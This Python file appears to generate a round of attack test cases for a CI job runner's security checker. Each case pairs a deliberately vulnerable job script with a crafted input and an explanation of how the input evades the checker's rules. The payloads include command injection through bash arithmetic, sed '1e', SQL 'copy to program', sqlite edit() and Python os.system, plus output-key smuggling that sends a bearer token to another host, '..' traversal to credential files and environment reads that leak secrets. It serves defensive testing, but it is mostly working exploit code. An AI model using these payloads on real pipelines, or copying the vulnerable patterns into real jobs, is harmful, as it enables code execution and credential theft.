# Round fifty-three attacks (helpers: lines 1-99 of round 52's attacks_r52.py, r52 -> r53) (exec'd by gen_attacks.py; uses A, T, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r53-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r53-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r53-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")




# ================================================================== round 53 attacks
NOTES = {"type": "string", "multiline": True, "maxLength": 4000, "description": "release notes (Markdown, several lines)"}
SQLW = {"type": "string", "pattern": "^[a-z][a-z0-9 ]{0,30}$", "description": "a word of letters and digits"}
PGPASS = ("umask 077\n"
          "pgpass=\"$HARBOR_RUN_DIR/pgpass\"\n"
          "printf '127.0.0.1:15432:app:app:%s\\n' \"$DB_PASSWORD\" > \"$pgpass\"\n")
PGSRV = "-h 127.0.0.1 -p 15432 -U app -d app -X -q -v ON_ERROR_STOP=1"
SHPG = "echo %s | tee -a /tmp/harbor-r53-pwned" % PW          # run by the database server's sh (no HARBOR_RUN_DIR there)
OAUTH = ("Round 45/46 read HARBOR_CALLER_PRINCIPAL/TENANT/GROUPS as a caller's text 'in a sed or awk program, a URL or a "
         "file name'; the registry (security.md section 6) classes them `server`, and rule 2 makes the registry's server "
         "variables clean; round 52 only stops exporting them. ")
SMUG = ("docs/exports.md 'Passing results between steps': an output written as echo \"key=$v\" (or printf 'key=%s\\n') "
        "holds exactly $v; a step's other keys are the author's when their statements hold no caller data; the runtime "
        "reads the file line by line, `key<<EOF` until the delimiter, and a key written twice keeps its last line. ")

# ---------------------------------------------------------------- class: an output key smuggled by a line break
X("release-notes-version", "output key smuggled through a multi-line value",
  "Draft the changelog entry for the next release: the latest tag and the caller's notes.",
  {"notes": NOTES},
  [("meta", """
     v=$(git describe --tags --abbrev=0)
     printf 'version=%s\\nnotes<<EOF\\n%s\\nEOF\\n' "${v#v}" "$ARG_notes" >> "$HARBOR_STEP_OUTPUT"
     """, None),
   ("render", """
     sed "1s/^## .*/## $STEP_meta_version (draft)/" CHANGELOG.md
     printf '%s\\n' "$STEP_meta_notes"
     """, None)],
  {"notes": "Fixed the login page.\nEOF\nversion=x/;1e " + SHP + " >&2 #\nnotes<<EOF\n- thanks"},
  SMUG + "Step meta writes version from git describe (the repository's, the author's) and notes in one printf whose "
  "format shows both keys; the notes line `EOF` closes the block and the next line writes version again, which wins. "
  "The render step puts the 'author's' version into a sed program: `1e CMD` runs the caller's command.")

X("order-count-title", "output key smuggled through a multi-line value",
  "Summarise an uploaded order (title and number of items).",
  {"order": dict(ATT_JSON, description="the order, JSON with title and items")},
  [("parse", """
     n=$(jq '.items | length' "$ARG_order")
     title=$(jq -r '.title // "untitled"' "$ARG_order")
     echo "count=$n" >> "$HARBOR_STEP_OUTPUT"
     echo "title=$title" >> "$HARBOR_STEP_OUTPUT"
     """, None),
   ("report", """
     if (( STEP_parse_count > 50 )); then
       echo "large order: $STEP_parse_title"
     else
       echo "order: $STEP_parse_title ($STEP_parse_count items)"
     fi
     """, None)],
  {"order": b64(json.dumps({"title": "Q3 restock\ncount=" + ARITHB, "items": [1, 2]}))},
  SMUG + "count is a jq `length` (a number, round 18) written as echo \"count=$n\"; title is caller text written after it. "
  "jq -r decodes the title's \\n, so `echo \"title=$title\"` writes a second line `count=x[$(…)]`, which wins, and "
  "`(( STEP_parse_count > 50 ))` evaluates it: the subscript runs the command.")

X("service-api-comment", "output key smuggled through a multi-line value",
  "Post a deployment note to the company's API (its base URL from config/api.json).",
  {"comment": NOTES},
  [("discover", """
     api=$(jq -r '.base' config/api.json)
     echo "api=$api" >> "$HARBOR_STEP_OUTPUT"
     printf 'comment<<EOF\\n%s\\nEOF\\n' "$ARG_comment" >> "$HARBOR_STEP_OUTPUT"
     """, None),
   ("post", """
     jq -n --arg c "$STEP_discover_comment" '{text: $c}' > "$HARBOR_RUN_DIR/note.json"
     curl -fsS -H "Authorization: Bearer $API_TOKEN" --data-binary @"$HARBOR_RUN_DIR/note.json" "$STEP_discover_api/v1/notes"
     """, None)],
  {"comment": "deployed 1.4.2\nEOF\napi=http://127.0.0.1:18765\ncomment<<EOF\nok"},
  SMUG + "api is what jq prints of config/api.json, a file no step writes (the author's, rule 2), written as "
  "echo \"api=$api\": the author's URL host beside the secret. The comment's `EOF` line closes its block and the next "
  "line writes api again: curl sends the bearer token to the caller's host.",
  head=SEC, author_files={"config/api.json": '{"base": "http://127.0.0.1:18766"}\n'})

# ---------------------------------------------------------------- class: the environment read by Python's os.path.expandvars
R("artifact-path-check", "environment read through os.path.expandvars",
  "Check whether an artifact path (which may use $HOME or ${BUILD_DIR}) exists, after refreshing the Nexus index.",
  {"path": {"type": "string", "pattern": "^[A-Za-z0-9_./${}~-]{1,200}$", "description": "artifact path; $VARS and ~ are expanded"}},
  """
  curl -fsS -u "ci:$NEXUS_TOKEN" -o "$HARBOR_RUN_DIR/index.json" "http://127.0.0.1:18766/service/rest/v1/search?repository=raw"
  python3 -c 'import os, sys
  p = os.path.expanduser(os.path.expandvars(sys.argv[1]))
  print(p, "exists" if os.path.exists(p) else "missing")' "$ARG_path"
  """,
  {"path": "/srv/builds/${NEXUS_TOKEN}/app.tgz"},
  "Round 51 / security.md 9: a Python program given caller data may not read os.environ/getenv by a computed name nor "
  "hand the mapping on whole; NEXUS_TOKEN is held as a secret (rounds 47/48: curl -u). os.path.expandvars reads the "
  "environment by the names in the caller's text, with neither spelling: it prints the pass_env credential.",
  head="pass_env: [NEXUS_TOKEN]\n", server_env={"NEXUS_TOKEN": "s3cr3tT0ken99"})

# ---------------------------------------------------------------- class: node's and perl's environment by a computed name
R("build-env-show", "environment read by a computed name in node and perl",
  "Show one setting of the build environment (NODE_ENV, npm_config_registry, …) next to the registry's answer.",
  {"var": {"type": "string", "pattern": "^[A-Za-z_][A-Za-z0-9_]{0,63}$", "description": "variable name"}},
  """
  curl -fsS -H "Authorization: Bearer $NPM_TOKEN" "http://127.0.0.1:18766/-/whoami" || true
  node -e 'const k = process.argv[1]; console.log(`${k}=${process.env[k] ?? "(unset)"}`)' "$ARG_var"
  """,
  {"var": "NPM_TOKEN"},
  "Rounds 50/51 name awk's ENVIRON[k], jq's $ENV/env and Python's os.environ/getenv; node's rules (round 35) are about "
  "reaching the global object, process or this by a computed name, not about process.env's keys. NPM_TOKEN is held "
  "as a secret (curl -H); node prints it by the caller's name.",
  head="pass_env: [NPM_TOKEN]\n", server_env={"NPM_TOKEN": "s3cr3tT0ken99"})

R("perl-env-show", "environment read by a computed name in node and perl",
  "Show one setting of the deploy environment (as the deploy scripts see it).",
  {"var": {"type": "string", "pattern": "^[A-Za-z_][A-Za-z0-9_]{0,63}$", "description": "variable name"}},
  """
  curl -fsS -u "deploy:$DEPLOY_PASSWORD" -o /dev/null "http://127.0.0.1:18766/api/ping" || true
  perl -e 'my $k = shift; printf "%s=%s\\n", $k, $ENV{$k} // "(unset)"' -- "$ARG_var"
  """,
  {"var": "DEPLOY_PASSWORD"},
  "Round 50/51 name awk, jq and Python; perl's list (security.md rule 8: eval, system, backticks, 2-argument open, <>, "
  "readline(ARGV)) has no environment read. $ENV{$k} with the caller's key prints the pass_env credential curl -u takes.",
  head="pass_env: [DEPLOY_PASSWORD]\n", server_env={"DEPLOY_PASSWORD": "s3cr3tT0ken99"})

# ---------------------------------------------------------------- class: OAuth claims inside SQL and Python text
R("reserve-item", "OAuth claims in a language's text (SQL, Python)",
  "Reserve an item, recording who reserved it.",
  {"item": SQLW},
  textwrap.indent(PGPASS, "  ") + """  PGPASSFILE="$pgpass" psql """ + PGSRV + """ -c "insert into orders(id, item, status) values (100, '$ARG_item', 'reserved by $HARBOR_CALLER_PRINCIPAL')"
  echo "reserved $ARG_item"
  """,
  {"item": "widget"},
  OAUTH + "Round 51: caller data inside a quoted SQL literal is data when its pattern keeps quotes out (item's does); "
  "a PGPASSFILE the script wrote in full with printf is the author's. The principal (oauth:SUB) stands in a literal "
  "too, but no rule reads it there: its `'); copy … to program …; --` runs as the database's superuser.",
  head=DBSEC, caller={"HARBOR_CALLER_PRINCIPAL": "oauth:x'); copy (select 1) to program '" + SHPG + "'; --",
                      "HARBOR_CALLER_TENANT": "acme", "HARBOR_CALLER_GROUPS": "ops"})

R("tenant-orders", "OAuth claims in a language's text (SQL, Python)",
  "List the open orders, labelled with the caller's tenant.",
  {"status": dict(SQLW, default="open")},
  """
  sqlite3 -readonly -header -csv data/app.db "select id, item, status, '$HARBOR_CALLER_TENANT' as tenant from orders where status = '$ARG_status'"
  """,
  {"status": "open"},
  OAUTH + "Round 51: sqlite3 -readonly with caller data in quoted literals (status's pattern keeps quotes out) writes "
  "nothing and is data. The tenant claim stands in a literal too; its `' as t, edit('x', 'CMD') as tenant from orders; --` "
  "makes the shell's edit() run the command.",
  caller={"HARBOR_CALLER_PRINCIPAL": "oauth:alice", "HARBOR_CALLER_GROUPS": "ops",
          "HARBOR_CALLER_TENANT": "x' as t, edit('x', '" + SHP + " >&2; true') as tenant from orders; --"})

R("whoami-json", "OAuth claims in a language's text (SQL, Python)",
  "Answer who the caller is, with their groups, as JSON.",
  {},
  """
  python3 - <<PY > "$HARBOR_OUTPUT"
  import json
  groups = [g for g in "$HARBOR_CALLER_GROUPS".split(",") if g]
  print(json.dumps({"principal": "$HARBOR_CALLER_PRINCIPAL", "groups": groups, "ops": "ops" in groups}))
  PY
  cat "$HARBOR_OUTPUT"
  """,
  {},
  OAUTH + "A python3 - program reading only the registry's server variables is the author's text (rule 2). The groups "
  "claim closes the string and the list comprehension and calls os.system.",
  caller={"HARBOR_CALLER_PRINCIPAL": "oauth:alice", "HARBOR_CALLER_TENANT": "acme",
          "HARBOR_CALLER_GROUPS": 'ops".split(",")]; import os; os.system(\'' + SHP + ' >&2\'); _ = [g for g in "'})

# ---------------------------------------------------------------- class: `..` climbing to a mktemp credential file
R("orders-archive", "`..` climbing to a credential file made by mktemp (TMPDIR inside the run directory)",
  "Export the orders of one status as a CSV, archived (tar.gz, base64).",
  {"status": dict(SQLW, default="open"),
   "report": {"type": "string", "pattern": "^[A-Za-z0-9._-]{1,64}$", "default": "orders.csv", "description": "file in the report folder"}},
  """
  umask 077
  pgpass=$(mktemp)
  printf '127.0.0.1:15432:app:app:%s\\n' "$DB_PASSWORD" > "$pgpass"
  mkdir -p "$HARBOR_RUN_DIR/out"
  PGPASSFILE="$pgpass" psql -h 127.0.0.1 -p 15432 -U app -d app -X -A -F, -c "select id, item, status from orders where status = '$ARG_status'" -o "$HARBOR_RUN_DIR/out/orders.csv"
  tar -C "$HARBOR_RUN_DIR/out" -czf - -- "$ARG_report" | base64 -w0
  """,
  {"status": "open", "report": ".."},
  "Round 52 refuses a value that may be `..` given to a printing program from a folder of the run directory where a "
  "secret's file is. The secret's file here is mktemp's, in TMPDIR (a temporary folder, not named as the run "
  "directory), written in full with printf (round 51: a PGPASSFILE written so is the author's). With sandbox: "
  "TMPDIR is $HARBOR_RUN_DIR/tmp, so `..` from out/ archives tmp/tmp.* and its password, gzip inside base64.",
  head=DBSEC + "sandbox: {limits: {cpu_seconds: 60, processes: 64}}\n")

R("nexus-download-zip", "`..` climbing to a credential file made by mktemp (TMPDIR inside the run directory)",
  "Download the asset index from Nexus and return the chosen file zipped (base64).",
  {"name": {"type": "string", "pattern": "^[A-Za-z0-9._-]{1,64}$", "default": "index.json", "description": "file of the download folder"}},
  """
  cfg=$(mktemp)
  printf 'user = "ci:%s"\\n' "$NEXUS_TOKEN" > "$cfg"
  mkdir -p "$HARBOR_RUN_DIR/dl"
  cd "$HARBOR_RUN_DIR/dl"
  curl -fsS -K "$cfg" -o index.json "http://127.0.0.1:18766/service/rest/v1/assets?repository=raw"
  zip -q -r - -- "$ARG_name" | base64 -w0
  """,
  {"name": ".."},
  "Round 39/40: a curl -K file written in full just before with printf of the author's text and the secret is the "
  "author's; round 52's `..` rule names folders of the run directory where a secret's file is, and this one is "
  "mktemp's in TMPDIR. With sandbox: TMPDIR is $HARBOR_RUN_DIR/tmp: `..` from dl/ zips tmp/tmp.* (deflate in base64).",
  head="secrets:\n  NEXUS_TOKEN: {env: CI_NEXUS_TOKEN}\nsandbox: {limits: {cpu_seconds: 60, processes: 64}}\n")

# ---------------------------------------------------------------- class: guards that do not hold where the name is used
R("failure-context", "a digits guard that does not hold where the name is used (after the loop, after esac)",
  "Show the log around the first failure at or after a line, from the uploaded failure index ('LINE name' per line).",
  {"index": dict(ATT_TXT, description="failure index, one 'LINE name' per line"),
   "from": {"type": "integer", "minimum": 1, "maximum": 100000, "default": 1}},
  """
  while read -r n name; do
    [[ $n =~ ^[0-9]+$ ]] || continue
    (( n >= {{ args.from }} )) && break
  done < "$ARG_index"
  sed -n "$(( n > 5 ? n - 5 : 1 )),$(( n + 5 ))p" logs/app.log
  """,
  {"index": b64("3 test_a\n7 test_b\n" + ARITH1), "from": 100000},
  "Rounds 19/30: `[[ $n =~ ^[0-9]+$ ]] || continue` makes n digits below it. After the loop n is what the last read "
  "took: a last line without a newline is read (status 1 ends the loop) but never tested, and the arithmetic "
  "after `done` evaluates its `x[$(…)]`.")

R("log-window", "a digits guard that does not hold where the name is used (after the loop, after esac)",
  "Show the last N lines of the log, or count its errors.",
  {"mode": {"enum": ["lines", "errors"], "default": "lines"},
   "n": {"type": "string", "maxLength": 256, "default": "50", "description": "line count (mode lines)"}},
  """
  case "$ARG_mode" in
    lines)
      [[ $ARG_n =~ ^[0-9]+$ ]] || { echo "n must be a line count" >&2; exit 2; }
      tail -n "$ARG_n" logs/app.log ;;
    errors)
      grep -c ERROR logs/app.log || true ;;
  esac
  if (( ${ARG_n:-0} > 1000 )); then echo "note: large windows are slow" >&2; fi
  """,
  {"mode": "errors", "n": ARITHB},
  "Round 19/30: a guard that leaves makes the name digits below it; round 51 only says a then-body's guard no longer "
  "vouches for else/elif. This guard stands in one case arm; with mode=errors it never runs, and the arithmetic after "
  "esac evaluates the caller's n.")

# ---------------------------------------------------------------- class: caller data into a folder no run owns (tar -C, sed w, awk >)
T("apply_templates", """
name: apply_templates
description: Render the nginx config from the shared templates' defaults.
timeout: 30
steps:
  - name: render
    run: |
      set -a
      . /srv/r53-app/templates/defaults.env
      set +a
      envsubst < config/nginx.conf
""")
T("deploy_staging", """
name: deploy_staging
description: Deploy to staging with the shared staging environment.
timeout: 30
steps:
  - name: deploy
    run: |
      set -a
      . /srv/r53-app/env/staging.env
      set +a
      ./scripts/deploy.sh staging
""")
T("inventory_ping", """
name: inventory_ping
description: Print the hosts of the shared inventory.
timeout: 30
steps:
  - name: hosts
    run: |
      . /srv/r53-app/inventory/hosts.sh
      compgen -v ssh_host_ || true
""")
SRV = ("Round 48/51: caller data written to an absolute folder no run owns is refused where it is written 'by a "
       "redirection, cp, install, mv, tee, dd or a program's own output option (curl -o, sort -o)'; every export "
       "reads what is there as the author's (the then-export sources it, accepted alone). ")
R("upload-templates", "caller data into a folder no run owns by tar -C, sed's w, awk's print >",
  "Install an uploaded template bundle (tar.gz) into the shared templates folder.",
  {"bundle": dict(ATT_TGZ, description="the templates, tar.gz")},
  """
  mkdir -p /srv/r53-app/templates
  tar -xzf "$ARG_bundle" -C /srv/r53-app/templates --no-same-owner --no-same-permissions
  ls /srv/r53-app/templates
  """,
  {"bundle": tgz({"defaults.env": (0o644, "SERVER_NAME=app.example.com\nX=$(" + SHP + " >&2)\n")})},
  SRV + "tar writes the caller's archive through -C, a folder option, not an output option nor a redirection.",
  then=[{"export": "apply_templates", "args": {}}])

R("stage-env", "caller data into a folder no run owns by tar -C, sed's w, awk's print >",
  "Keep the KEY=value lines of an uploaded .env as the shared staging environment.",
  {"envfile": dict(ATT_TXT, description="a .env file")},
  """
  mkdir -p /srv/r53-app/env
  sed -n -e '/^[A-Z_][A-Z0-9_]*=/w /srv/r53-app/env/staging.env' "$ARG_envfile"
  echo "kept $(wc -l < /srv/r53-app/env/staging.env) settings"
  """,
  {"envfile": b64("APP_ENV=staging\nAPP_X=$(" + SHP + " >&2)\n")},
  SRV + "sed's `w FILE` is a command of its program (round 35 reads it for the working folder), not an option.",
  then=[{"export": "deploy_staging", "args": {}}])

R("inventory-import", "caller data into a folder no run owns by tar -C, sed's w, awk's print >",
  "Import an uploaded host list (name,address CSV) into the shared inventory.",
  {"hosts": dict(ATT_TXT, description="CSV: name,address")},
  """
  mkdir -p /srv/r53-app/inventory
  awk -F, 'NF == 2 && $1 ~ /^[a-z0-9-]+$/ { gsub(/-/, "_", $1); print "ssh_host_" $1 "=" $2 > "/srv/r53-app/inventory/hosts.sh" }' "$ARG_hosts"
  echo imported
  """,
  {"hosts": b64("web1,10.0.0.1\ndb1,$(" + SHP + " >&2)\n")},
  SRV + "awk's `print > \"FILE\"` is its program's text (round 14 accepts `> \"/dev/stderr\"`), not an output option.",
  then=[{"export": "inventory_ping", "args": {}}])

# ---------------------------------------------------------------- class: lastpipe
R("saved-search-tail", "read at the end of a pipeline under shopt -s lastpipe",
  "Tail the app log for a saved search (its optional 'lines' overrides one line per minute of the window).",
  {"query": dict(ATT_JSON, description="saved search JSON"),
   "hours": {"type": "integer", "minimum": 1, "maximum": 48, "default": 1}},
  """
  shopt -s lastpipe
  lines=$(( {{ args.hours }} * 60 ))
  jq -r '.lines // empty' "$ARG_query" | read -r lines || true
  tail -n "$(( lines ))" logs/app.log
  """,
  {"query": b64(json.dumps({"lines": ARITHB}))},
  "Round 51: a name assigned $(( … )) earlier in the same block holds a whole number where nothing between may "
  "assign it; `cmd | read` assigns nothing in the script's shell by default (a pipeline's stages are subshells). With "
  "`shopt -s lastpipe` the read runs in the script's shell and replaces lines with the caller's text, which "
  "$(( lines )) evaluates.")
